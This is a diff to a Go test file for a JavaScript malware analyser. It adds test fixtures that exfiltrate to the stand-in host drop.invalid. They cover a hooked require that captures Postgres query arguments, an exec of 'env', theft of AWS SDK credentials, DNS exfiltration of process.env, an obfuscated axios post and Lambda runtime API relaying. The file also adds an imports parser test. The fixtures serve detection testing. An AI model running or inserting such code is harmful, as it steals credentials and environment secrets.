@@ -116,6 +116,43 @@ const send = async (d) => fetch('https://drop.invalid', { body: JSON.stringify(d
 send(collect());
 `, []string{"env-credential(AWS_SECRET_ACCESS_KEY):1 -> http(fetch):2 drop.invalid via json at import"}},
 
+		"hooked_require": {`const M = require('module');
+const o = M._load;
+M._load = function (r) {
+  const x = o.apply(this, arguments);
+  if (r === 'pg') {
+    const q = x.Client.prototype.query;
+    x.Client.prototype.query = function (...a) {
+      fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(a) });
+      return q.apply(this, a);
+    };
+  }
+  return x;
+};
+`, []string{"patched-args(module._load().Client.prototype.query):7 -> http(fetch):8 drop.invalid via json"}},
+		"command_env": {`import('node:child_process').then(({ exec }) => exec('env', (e, out) => fetch('https://drop.invalid', { method: 'POST', body: out })));
+`, []string{"env-all(the command env):1 -> http(fetch):1 drop.invalid at import"}},
+		"provider": {`const { defaultProvider } = require('@aws-sdk/credential-provider-node');
+(async () => {
+  const c = await defaultProvider()();
+  await fetch('https://drop.invalid/?k=' + c.secretAccessKey);
+})();
+`, []string{"sdk-credentials(credentials):4 -> http(fetch):4 drop.invalid at import"}},
+		"reduced": {`const k = Object.keys(process.env).reduce((a, n) => a + process.env[n], '');
+require('dns').lookup(k + '.drop.invalid', () => {});
+`, []string{"env-all(process.env):1 -> dns(dns.lookup):2 {}.drop.invalid at import"}},
+		"string_array": {`const _0x1 = ['env', 'post'];
+const a = require('axios');
+a[_0x1[1]]('https://drop.invalid', process[_0x1[0]]);
+`, []string{"env-all(process.env):3 -> http(axios.post):3 drop.invalid at import"}},
+		"runtime_api": {`const http = require('http');
+http.createServer((q, r) => {
+  http.request({ host: process.env.AWS_LAMBDA_RUNTIME_API }, (x) => {
+    x.on('data', (d) => fetch('https://drop.invalid', { method: 'POST', body: d }));
+  });
+}).listen(9009);
+`, []string{"runtime-api(runtime API):3 -> http(fetch):4 drop.invalid at import"}},
+
 		"clean_child": {`const { spawn } = require('child_process');
 spawn('ls', ['-l'], { env: { ...process.env, LANG: 'C' }, stdio: 'inherit' });
 `, nil},
@@ -217,13 +254,33 @@ n("o");
 	}
 }
 
+func TestImports(t *testing.T) {
+	src := `import a from "a"; import {b,
+  c as d} from 'b/c' // import "no1"
+/* require("no2") */ export * from "./e";
+export const f = 1; import "g";
+const h = require( "node:h" ), i = x.require("no3"), important = 'x';
+import("j"); require(k); const l = () => import(m + "n");
+export { o } from 'o'; const url = "https://x/y"; require('p').q;
+x = {...require("r")};
+`
+	want := "1 import a\n1 import b/c\n3 export ./e\n4 import g\n5 require node:h\n6 dynamic j\n6 require \n6 dynamic \n7 export o\n7 require p\n8 require r\n"
+	var b strings.Builder
+	for _, im := range jssyntax.Imports([]byte(src)) {
+		fmt.Fprintf(&b, "%d %s %s\n", im.Line, im.Kind, im.Module)
+	}
+	if d := cmp.Diff(want, b.String()); d != "" {
+		t.Error(d)
+	}
+}
+
 func TestParse_patches(t *testing.T) {
 	tests := map[string]struct {
 		src  string
 		want []string
 	}{
 		"module":       {"const h = require('http');\nh.request = function r() {};\n", []string{"module http.request by r"}},
-		"load":         {"const M = require('module');\nconst o = M._load;\nM._load = function (q, p, m) { const x = o.apply(this, arguments); x.connect = () => {}; return x; };\n", []string{"import-system module._load by _load"}},
+		"load":         {"const M = require('module');\nconst o = M._load;\nM._load = function (q, p, m) { const x = o.apply(this, arguments); x.connect = () => {}; return x; };\n", []string{"import-system module._load by _load", "module module._load().connect by _load.connect"}},
 		"prototype":    {"const { Client } = require('pg');\nClient.prototype.query = function () {};\n", []string{"prototype pg.Client.prototype.query by query"}},
 		"cache":        {"require.cache[require.resolve('x')].exports = {};\nrequire.cache['y'] = {};\n", []string{"import-system require.cache.y by "}},
 		"this_module":  {"module.constructor.prototype.require = () => {};\n", []string{"import-system module.prototype.require by require"}},
@@ -273,5 +330,6 @@ func FuzzParse(f *testing.F) {
 	f.Fuzz(func(_ *testing.T, src []byte) {
 		jssyntax.Parse(src)
 		jssyntax.MayMatter(src)
+		jssyntax.Imports(src)
 	})
 }
